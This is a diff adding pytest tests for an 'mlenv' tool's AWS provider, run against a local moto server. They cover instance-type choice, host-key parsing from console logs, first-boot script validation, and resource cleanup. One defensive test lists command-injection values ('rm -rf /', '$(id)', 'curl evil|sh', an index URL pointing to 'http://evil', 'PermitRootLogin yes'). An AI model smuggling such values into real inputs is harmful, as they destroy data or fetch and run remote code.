@@ -1,0 +1,399 @@
+"""The aws provider against moto running as a real HTTP server, and its first-boot script for real.
+
+moto answers EC2, SSM, STS and CloudWatch on a loopback port; boto3 finds it through
+AWS_ENDPOINT_URL exactly as it finds a VPC endpoint.  Instances in moto never boot, so the user-data
+is run separately in a container from the plain base image, and host-key parsing is tested on a
+console log in the real cloud-init format.
+"""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import json
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import REPO, require, run_mlenv
+from tests.test_lock import write_spec
+
+DATA = Path(__file__).parent / "data" / "aws"
+CALLER_IP = "198.51.100.23"
+# moto serves Amazon Linux's public parameters only; real users get Ubuntu / the DLAMI by default
+AMI_PARAMETER = "/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64"
+
+
+# --- the instance catalog ---------------------------------------------------------------------------
+
+
+def target(**fields):
+    from mlenv.spec import Target
+
+    return Target(name=fields.pop("name", "t"), platform=fields.pop("platform", "linux/x86_64"), **fields)
+
+
+def test_cheapest_type_satisfies_the_target():
+    from mlenv.boxes.catalog import cheapest
+
+    assert cheapest(target()).name == "t3.medium"  # CPU targets never pay for a GPU
+    assert cheapest(target(cpu_min=8, ram_min=64)).name == "r7i.2xlarge"
+    assert cheapest(target(platform="linux/aarch64", cpu_min=4)).name == "c7g.xlarge"
+    assert cheapest(target(cuda="12.4", gpu_count=1)).name == "g4dn.xlarge"
+    assert cheapest(target(cuda="12.4", gpu="a10g", gpu_count=1)).name == "g5.xlarge"
+    assert cheapest(target(cuda="12.4", gpu_count=4, gpu_memory_min=24)).name == "g6.12xlarge"
+    assert cheapest(target(cuda="12.4", gpu="h100", gpu_count=8)).name == "p5.48xlarge"
+    # CUDA 13 dropped Volta: a V100 type never serves it even when asked for 16 GB GPUs
+    assert cheapest(target(cuda="13.0", gpu_count=4, gpu_memory_min=16)).gpu != "v100"
+
+
+def test_no_fitting_type_is_a_clear_error():
+    from mlenv.boxes.catalog import cheapest
+    from mlenv.errors import UsageError
+
+    with pytest.raises(UsageError, match="no EC2 instance type"):
+        cheapest(target(cuda="12.4", gpu="b200", gpu_count=1))
+    with pytest.raises(UsageError, match="linux/x86_64 or linux/aarch64"):
+        cheapest(target(platform="macos/arm64"))
+
+
+# --- host keys from the console ---------------------------------------------------------------------
+
+
+def recorded_console() -> str:
+    return (DATA / "console-ubuntu-22.04.txt").read_bytes().decode()
+
+
+def public_key(path: Path) -> str:
+    return " ".join(path.read_text().split()[:2])
+
+
+def test_host_keys_come_from_mlenv_block_of_a_real_console_log():
+    from mlenv.boxes.cloudinit import parse_host_keys
+
+    keys = parse_host_keys(recorded_console())
+    assert [key.split()[0] for key in keys] == ["ssh-ed25519", "ecdsa-sha2-nistp256", "ssh-rsa"]
+    assert keys[0] == "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPSIElIHw716sKVJ2qnZsq5djVduZqV6nxHYfJKlPxRX"
+    # the authorized-key line printed outside any block is not a host key
+    assert not any("IL1cFi2ZDdPylkcdvhJDf351m21PfqGdU8CBSKMIPejC" in key for key in keys)
+
+
+def test_cloud_init_block_is_the_fallback_and_mangled_lines_are_dropped():
+    from mlenv.boxes.cloudinit import KEYS_BEGIN, parse_host_keys
+
+    console = recorded_console().split(KEYS_BEGIN)[0].rsplit("\n", 1)[0]  # the script never printed
+    keys = parse_host_keys(console)
+    # the RSA line was split by interleaved kernel output: dropped, never half-read
+    assert [key.split()[0] for key in keys] == ["ssh-ed25519", "ecdsa-sha2-nistp256"]
+    assert parse_host_keys("no keys yet\r\n") == []
+
+
+def test_two_different_keys_of_one_type_on_the_console_are_refused():
+    from mlenv.boxes.cloudinit import KEYS_BEGIN, KEYS_END, parse_host_keys
+    from mlenv.errors import MlenvError
+
+    other = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIL1cFi2ZDdPylkcdvhJDf351m21PfqGdU8CBSKMIPejC"
+    forged = recorded_console() + f"\n{KEYS_BEGIN}\n{other}\n{KEYS_END}\n"
+    with pytest.raises(MlenvError, match="two different ssh-ed25519 host keys"):
+        parse_host_keys(forged)
+
+
+def test_a_key_whose_blob_names_another_type_is_ignored():
+    from mlenv.boxes.cloudinit import KEYS_BEGIN, KEYS_END, parse_host_keys
+
+    ecdsa_blob = recorded_console().split("ecdsa-sha2-nistp256 ")[1].split()[0]
+    assert parse_host_keys(f"{KEYS_BEGIN}\nssh-ed25519 {ecdsa_blob}\n{KEYS_END}\n") == []
+
+
+# --- the first-boot script: validated and quoted ----------------------------------------------------
+
+
+def user_data(**changes):
+    from mlenv.boxes import cloudinit
+    from mlenv.boxes.model import BOX_DIR, KEEPALIVE_DIR, WATCHDOG_PATH, UpRequest
+
+    fields = dict(
+        box="gpu1", project="demo", user="ubuntu", watchdog=cloudinit.watchdog_source(),
+        watchdog_args=UpRequest(name="gpu1").watchdog_args(action="poweroff", poll_s=30),
+        box_dir=BOX_DIR, keepalive_dir=KEEPALIVE_DIR, watchdog_path=WATCHDOG_PATH,
+        pylock_name="pylock.cpu.toml", pylock=b'lock-version = "1.0"\n', python="3.11", groups=["dev"],
+    )
+    fields.update(changes)
+    return cloudinit.UserData(**fields)
+
+
+@pytest.mark.parametrize("change, message", [
+    ({"box": "gpu1\nrm -rf /"}, "box name"),
+    ({"project": "demo; reboot"}, "invalid name"),
+    ({"user": "ubuntu$(id)"}, "login user"),
+    ({"image_ref": "registry.example.com/demo:dev; curl evil|sh"}, "image reference"),
+    ({"image_ref": "registry.example.com/demo:dev"}, "not pinned by digest"),
+    ({"groups": ["dev --index-url http://evil"]}, "invalid name"),
+    ({"authorized_keys": ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI x\nPermitRootLogin yes"]}, "public key"),
+])
+def test_hostile_values_never_reach_the_script(change, message):
+    from mlenv.boxes import cloudinit
+    from mlenv.errors import UsageError
+
+    with pytest.raises(UsageError, match=message):
+        cloudinit.render(user_data(**change))
+
+
+def test_script_quotes_values_and_holds_no_secrets_and_fits_ec2():
+    from mlenv.boxes import cloudinit
+
+    digest = "sha256:" + "a" * 64
+    script = cloudinit.render(user_data(image_ref=f"123456789012.dkr.ecr.eu-west-1.amazonaws.com/demo@{digest}",
+                                        authorized_keys=[public_key(DATA / "laptop.pub") + " me@laptop"]))
+    assert script.startswith("#!/bin/bash\n")
+    assert f"docker pull 123456789012.dkr.ecr.eu-west-1.amazonaws.com/demo@{digest}" in script
+    assert '"ecr-login"' in script and "amazon-ecr-credential-helper" in script
+    assert "'ssh-ed25519 AAAA" in script  # keys are single shell words
+    assert "PRIVATE KEY" not in script and "aws_secret" not in script.lower()
+    packed = cloudinit.pack(script)
+    assert len(packed) <= cloudinit.USER_DATA_LIMIT and cloudinit.unpack(packed) == script
+    subprocess.run(["bash", "-n"], input=script, text=True, check=True)  # the shell parses it
+
+
+# --- moto as a real HTTP server ---------------------------------------------------------------------
+
+
+def _free_port() -> int:
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        return sock.getsockname()[1]
+
+
+@pytest.fixture(scope="module")
+def moto_server(tmp_path_factory):
+    binary = shutil.which("moto_server")
+    require(binary is not None, "moto_server (pip install 'moto[server]')")
+    port = _free_port()
+    log = tmp_path_factory.mktemp("moto") / "log"
+    process = subprocess.Popen([binary, "-H", "127.0.0.1", "-p", str(port)], stdout=open(log, "wb"),
+                               stderr=subprocess.STDOUT, start_new_session=True)
+    url = f"http://127.0.0.1:{port}"
+    deadline = time.monotonic() + 30
+    while time.monotonic() < deadline:
+        try:
+            with socket.create_connection(("127.0.0.1", port), timeout=1):
+                break
+        except OSError:
+            time.sleep(0.2)
+    else:
+        process.kill()
+        pytest.fail(f"moto_server did not start: {log.read_text()[-2000:]}", pytrace=False)
+    yield url
+    process.terminate()
+    process.wait(timeout=20)
+
+
+@pytest.fixture
+def aws(moto_server, tmp_path, monkeypatch):
+    """Environment of a user whose AWS config points at moto; fresh moto state for each test."""
+    import urllib.request
+
+    urllib.request.urlopen(urllib.request.Request(f"{moto_server}/moto-api/reset", method="POST"), timeout=10)
+    env = {
+        "AWS_ENDPOINT_URL": moto_server,
+        "AWS_ACCESS_KEY_ID": "testing",
+        "AWS_SECRET_ACCESS_KEY": "testing",
+        "AWS_REGION": "eu-west-1",
+        "AWS_CONFIG_FILE": str(tmp_path / "aws-config"),
+        "AWS_SHARED_CREDENTIALS_FILE": str(tmp_path / "aws-credentials"),
+        "MLENV_HOME": str(tmp_path / "mlenv-home"),
+        "HOME": str(tmp_path / "home"),
+        "MLENV_CALLER_IP": CALLER_IP,
+        "MLENV_BOOT_TIMEOUT": "0",
+    }
+    (tmp_path / "home").mkdir()
+    for key in ("AWS_PROFILE", "AWS_DEFAULT_REGION", "AWS_SESSION_TOKEN"):
+        monkeypatch.delenv(key, raising=False)
+    for key, value in env.items():
+        monkeypatch.setenv(key, value)
+    return env
+
+
+@pytest.fixture
+def project(tmp_path, local_index):
+    folder = tmp_path / "proj"
+    folder.mkdir()
+    write_spec(folder, local_index.url, extra=f'[devbox]\nami-parameter = "{AMI_PARAMETER}"\n')
+    result = run_mlenv("lock", cwd=folder)
+    assert result.returncode == 0, result.stderr
+    return folder
+
+
+def boto(service: str):
+    import boto3
+
+    return boto3.client(service, region_name="eu-west-1")
+
+
+def provider(project: Path):
+    from mlenv.boxes.aws import AWSProvider
+    from mlenv.spec import load_spec
+
+    return AWSProvider(load_spec(project))
+
+
+def request(name: str = "dev1", **fields):
+    from mlenv.boxes.model import UpRequest
+
+    return UpRequest(name=name, **fields)
+
+
+def tagged_resources() -> dict[str, list]:
+    ec2 = boto("ec2")
+    has_tag = [{"Name": "tag-key", "Values": ["mlenv:box"]}]
+    instances = [inst for r in ec2.describe_instances(Filters=has_tag)["Reservations"] for inst in r["Instances"]
+                 if inst["State"]["Name"] != "terminated"]
+    return {
+        "instances": instances,
+        "key_pairs": ec2.describe_key_pairs(Filters=has_tag)["KeyPairs"],
+        "groups": ec2.describe_security_groups(Filters=has_tag)["SecurityGroups"],
+        "volumes": [v for v in ec2.describe_volumes(Filters=has_tag)["Volumes"] if v["State"] != "deleted"],
+        "alarms": boto("cloudwatch").describe_alarms(AlarmNamePrefix="mlenv-")["MetricAlarms"],
+    }
+
+
+def test_up_creates_a_locked_down_box_with_the_promised_settings(aws, project):
+    box = provider(project).up(request(idle_s=600, idle_connected_s=3600), lambda line: None)
+    ec2 = boto("ec2")
+    inst = ec2.describe_instances(InstanceIds=[box.extra["instance_id"]])["Reservations"][0]["Instances"][0]
+    tags = {t["Key"]: t["Value"] for t in inst["Tags"]}
+    assert tags["mlenv:box"] == "dev1" and tags["mlenv:project"] == "demo"
+    assert tags["mlenv:owner"] and tags["mlenv:lock"] != "unlocked" and tags["mlenv:target"] == "cpu"
+    assert inst["InstanceType"] == "t3.medium" and box.price_per_hour == pytest.approx(0.0416)
+    assert inst["MetadataOptions"]["HttpTokens"] == "required"
+    attribute = ec2.describe_instance_attribute(InstanceId=inst["InstanceId"],
+                                                Attribute="instanceInitiatedShutdownBehavior")
+    assert attribute["InstanceInitiatedShutdownBehavior"]["Value"] == "stop"
+    volume_id = inst["BlockDeviceMappings"][0]["Ebs"]["VolumeId"]
+    volume = ec2.describe_volumes(VolumeIds=[volume_id])["Volumes"][0]
+    assert volume["Encrypted"] and volume["VolumeType"] == "gp3" and volume["Size"] == 40
+    group = ec2.describe_security_groups(GroupIds=[inst["SecurityGroups"][0]["GroupId"]])["SecurityGroups"][0]
+    assert [(p["FromPort"], p["ToPort"], [r["CidrIp"] for r in p["IpRanges"]]) for p in group["IpPermissions"]] \
+        == [(22, 22, [f"{CALLER_IP}/32"])]
+    assert {t["Key"]: t["Value"] for t in group["Tags"]}["mlenv:box"] == "dev1"
+    pair = ec2.describe_key_pairs(KeyNames=[inst["KeyName"]])["KeyPairs"][0]
+    from mlenv.connect.keys import local_key
+
+    assert pair["KeyType"] == "ed25519" and {t["Key"] for t in pair["Tags"]} >= {"mlenv:box", "mlenv:owner"}
+    assert local_key().public_line.split()[1] in aws_public_key(ec2, pair)
+    alarm = boto("cloudwatch").describe_alarms(AlarmNamePrefix="mlenv-demo-dev1")["MetricAlarms"][0]
+    assert alarm["AlarmActions"] == ["arn:aws:automate:eu-west-1:ec2:stop"]
+    assert alarm["Dimensions"] == [{"Name": "InstanceId", "Value": inst["InstanceId"]}]
+    assert alarm["ComparisonOperator"] == "LessThanThreshold" and alarm["MetricName"] == "CPUUtilization"
+    assert alarm["Period"] * alarm["EvaluationPeriods"] == 3600
+    script = user_data_of(ec2, inst["InstanceId"])
+    assert "mlenv-watchdog.service" in script and "--action poweroff" in script and "--idle 600" in script
+
+
+def aws_public_key(ec2, pair) -> str:
+    described = ec2.describe_key_pairs(KeyPairIds=[pair["KeyPairId"]], IncludePublicKey=True)["KeyPairs"][0]
+    return described.get("PublicKey", "")
+
+
+def user_data_of(ec2, instance_id: str) -> str:
+    from mlenv.boxes.cloudinit import unpack
+
+    value = ec2.describe_instance_attribute(InstanceId=instance_id, Attribute="userData")["UserData"]["Value"]
+    return unpack(base64.b64decode(value))
+
+
+def test_up_twice_is_one_box_and_a_stopped_box_is_started(aws, project):
+    aws_boxes = provider(project)
+    first = aws_boxes.up(request(), lambda line: None)
+    again = provider(project).up(request(), lambda line: None)
+    assert again.extra["instance_id"] == first.extra["instance_id"]
+    assert len(tagged_resources()["instances"]) == 1
+    aws_boxes.stop("dev1")
+    assert provider(project).get("dev1").state == "stopped"
+    lines = []
+    started = provider(project).up(request(), lines.append)
+    assert started.extra["instance_id"] == first.extra["instance_id"] and started.state == "running"
+    assert any("starting" in line for line in lines)
+
+
+def test_stop_start_ls_and_down_deletes_everything(aws, project):
+    aws_boxes = provider(project)
+    aws_boxes.up(request("a1"), lambda line: None)
+    aws_boxes.up(request("a2"), lambda line: None)
+    assert [(b.name, b.state, b.provider) for b in provider(project).list()] == [("a1", "running", "aws"),
+                                                                                ("a2", "running", "aws")]
+    aws_boxes.stop("a1")
+    assert provider(project).get("a1").state == "stopped"
+    assert provider(project).start("a1", lambda line: None).state == "running"
+    aws_boxes.down("a1")
+    assert provider(project).get("a1") is None
+    left = tagged_resources()
+    assert [len(left[kind]) for kind in ("instances", "key_pairs", "groups", "alarms")] == [1, 1, 1, 1]
+    assert all({t["Key"]: t["Value"] for t in r["Tags"]}["mlenv:box"] == "a2" for r in left["key_pairs"] + left["groups"])
+    assert provider(project).orphans() == []
+
+
+def test_a_failure_mid_up_rolls_back_everything(aws, project, monkeypatch):
+    from mlenv.boxes.aws import AWSProvider
+    from mlenv.errors import MlenvError
+
+    def broken_alarm(self, *args, **kwargs):
+        raise MlenvError("CloudWatch is down")
+
+    monkeypatch.setattr(AWSProvider, "_put_alarm", broken_alarm)
+    with pytest.raises(MlenvError, match="CloudWatch is down"):
+        provider(project).up(request(), lambda line: None)
+    assert tagged_resources() == {"instances": [], "key_pairs": [], "groups": [], "volumes": [], "alarms": []}
+
+
+def test_a_killed_up_leaves_only_tagged_resources_that_gc_removes(aws, project, monkeypatch):
+    from mlenv.boxes.aws import AWSProvider
+
+    def killed(self, *args, **kwargs):
+        raise KeyboardInterrupt  # Ctrl-C right after launch
+
+    with monkeypatch.context() as patch:
+        patch.setattr(AWSProvider, "_put_alarm", killed)
+        patch.setattr(AWSProvider, "_undo", lambda self, made: None)  # as if the process died: no rollback
+        with pytest.raises(KeyboardInterrupt):
+            provider(project).up(request(), lambda line: None)
+    left = tagged_resources()
+    assert len(left["instances"]) == 1 and len(left["key_pairs"]) == 1 and len(left["groups"]) == 1
+    # the half-made instance is a box `ls` shows and `down` removes; its key pair and group go with it
+    assert [b.name for b in provider(project).list()] == ["dev1"]
+    provider(project).down("dev1")
+    assert tagged_resources() == {"instances": [], "key_pairs": [], "groups": [], "volumes": [], "alarms": []}
+
+
+def test_gc_lists_orphans_with_their_cost_and_deletes_them(aws, project):
+    ec2 = boto("ec2")
+    tags = [{"Key": "mlenv:box", "Value": "gone"}, {"Key": "mlenv:project", "Value": "demo"},
+            {"Key": "mlenv:owner", "Value": "someone@laptop"}]
+    ec2.create_security_group(GroupName="mlenv-demo-gone", Description="left over",
+                              TagSpecifications=[{"ResourceType": "security-group", "Tags": tags}])
+    ec2.create_volume(Size=100, AvailabilityZone="eu-west-1a", VolumeType="gp3",
+                      TagSpecifications=[{"ResourceType": "volume", "Tags": tags}])
+    provider(project).up(request("live"), lambda line: None)
+    orphans = provider(project).orphans()
+    assert sorted((o.kind, o.box) for o in orphans) == [("security-group", "gone"), ("volume", "gone")]
+    volume = next(o for o in orphans if o.kind == "volume")
+    assert volume.price_per_hour == pytest.approx(100 * 0.08 / 730, rel=1e-3)
+    provider(project).delete_orphans(orphans)
+    assert provider(project).orphans() == []
+    assert [b.name for b in provider(project).list()] == ["live"]  # the live box keeps its resources
+
+
+def test_plan_creates_nothing(aws, project):
+    lines = provider(project).plan(request(instance_type="g5.xlarge", spot=True))
+    text = "\n".join(lines)
+    assert "g5.xlarge" in text and "$1.0060/hour" in text and "spot" in text
+    assert f"SSH (tcp/22) from {CALLER_IP}/32 only" in text and "IMDSv2 required" in text
+    assert "encrypted" in text and "mlenv:box=dev1" in text
+    assert tagged_resources() == {"instances": [], "key_pairs": [], "groups": [], "volumes": [], "alarms": []}
+    assert boto("ec2").describe_key_pairs()["KeyPairs"] == []
